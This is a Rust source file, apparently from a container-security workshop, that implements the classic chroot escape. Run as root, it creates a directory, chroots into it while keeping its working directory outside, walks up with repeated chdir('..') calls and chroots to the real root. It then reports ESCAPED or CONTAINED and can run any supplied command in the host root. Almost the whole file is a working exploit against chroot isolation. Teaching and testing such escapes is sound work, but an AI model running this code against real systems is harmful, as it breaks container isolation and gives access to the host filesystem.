//! The classic chroot escape, as the workshop shows it before pivot_root.
//!
//! chroot(2) changes the root directory but not the working directory. A
//! process that is root in a chroot can chroot into a subdirectory while its
//! working directory stays outside that new root; from there `..` is never
//! stopped by the root, so enough `chdir("..")` calls walk up to the real root
//! of the mount namespace, and `chroot(".")` makes that the root again.
//!
//! Prints `ESCAPED` when the root it ends in is not the one it started in,
//! `CONTAINED` otherwise. When a call fails, it first says which one and why
//! on stderr (as `nobody`, the first `mkdir` already fails). With arguments,
//! runs them in the root it ended in (`breakout ls /` lists the host's root
//! after an escape).

use std::env;
use std::fs;
use std::io;
use std::os::unix::fs::{chroot, MetadataExt};
use std::os::unix::process::CommandExt;
use std::process::{exit, Command};

const EPERM: i32 = 1;
const EACCES: i32 = 13;

fn root_identity() -> (u64, u64) {
    let meta = fs::metadata("/").expect("stat /");
    (meta.dev(), meta.ino())
}

fn main() {
    let before = root_identity();
    let escaped = match attempt() {
        Ok(()) => root_identity() != before,
        Err(failure) => {
            eprintln!("breakout: {failure}");
            false
        }
    };
    println!("{}", if escaped { "ESCAPED" } else { "CONTAINED" });
    let args: Vec<String> = env::args().skip(1).collect();
    if let Some((program, rest)) = args.split_first() {
        let err = Command::new(program).args(rest).exec();
        eprintln!("breakout: {program}: {err}");
        exit(127);
    }
}

/// Names the call, its argument and the reason, like strace: the escape
/// needs root (`mkdir` in `/` and `chroot` both do), so say so.
fn failed(call: &str, err: io::Error) -> String {
    let reason = err.to_string();
    let reason = reason.split(" (os error").next().unwrap_or(&reason).to_string();
    let hint = match err.raw_os_error() {
        Some(EACCES) => " (run as root in the container)",
        Some(EPERM) => " (chroot needs CAP_SYS_CHROOT: run as root in the container)",
        _ => "",
    };
    format!("{call} failed: {reason}{hint}")
}

fn attempt() -> Result<(), String> {
    let dir = "/.breakout";
    fs::create_dir_all(dir).map_err(|e| failed(&format!("mkdir({dir:?})"), e))?;
    let result = chroot(dir);
    // Our working directory is still the old "/", so the relative name
    // reaches the directory we just made our root.
    let _ = fs::remove_dir(".breakout");
    result.map_err(|e| failed(&format!("chroot({dir:?})"), e))?;
    for _ in 0..1024 {
        env::set_current_dir("..").map_err(|e| failed("chdir(\"..\")", e))?;
    }
    chroot(".").map_err(|e| failed("chroot(\".\")", e))
}
